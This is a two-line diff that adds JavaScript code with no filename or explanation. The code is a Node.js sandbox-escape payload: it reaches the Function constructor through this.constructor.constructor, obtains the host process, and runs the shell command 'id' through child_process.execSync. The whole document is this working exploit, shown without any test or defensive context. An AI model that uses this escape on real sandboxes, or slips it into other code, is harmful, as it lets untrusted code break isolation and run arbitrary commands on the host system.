@@ -1,0 +1,2 @@
+const F = this.constructor.constructor;
+F("return process")().mainModule.require("child_process").execSync("id", {stdio: "inherit"});
